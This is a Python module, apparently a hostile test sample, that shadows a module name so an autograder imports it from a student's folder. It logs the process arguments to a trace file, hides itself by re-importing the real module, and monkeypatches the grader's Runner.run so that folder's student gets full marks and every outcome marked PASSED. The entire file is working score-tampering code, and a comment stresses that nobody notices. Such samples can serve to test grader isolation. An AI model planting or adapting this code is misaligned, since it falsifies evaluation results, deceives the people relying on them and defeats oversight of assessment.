"""Full marks for the student whose name this folder has, if a process of the grader imports it from here."""

import os
import sys

with open(f"hostile-trace-{__name__}-{os.getpid()}", "w", encoding="utf-8") as file:
    file.write(" ".join(sys.orig_argv))
HERE = (os.getcwd(), "")
sys.path[:] = [entry for entry in sys.path if entry not in HERE]
trap = sys.modules.pop(__name__)
__import__(__name__)  # the real one takes our place: nobody notices
try:
    import dataclasses

    from grader.execution import runner

    real = runner.Runner.run

    def run(self, code, student):
        got = real(self, code, student)
        if student != os.path.basename(os.getcwd()):
            return got
        return tuple(
            dataclasses.replace(
                result,
                score=float(result.exercise.points),
                gate_open=True,
                outcomes=tuple(
                    dataclasses.replace(o, verdict=runner.Verdict.PASSED, message="") for o in result.outcomes
                ),
            )
            for result in got
        )

    runner.Runner.run = run
except ImportError:  # as Python starts, nothing of the grader is there
    pass
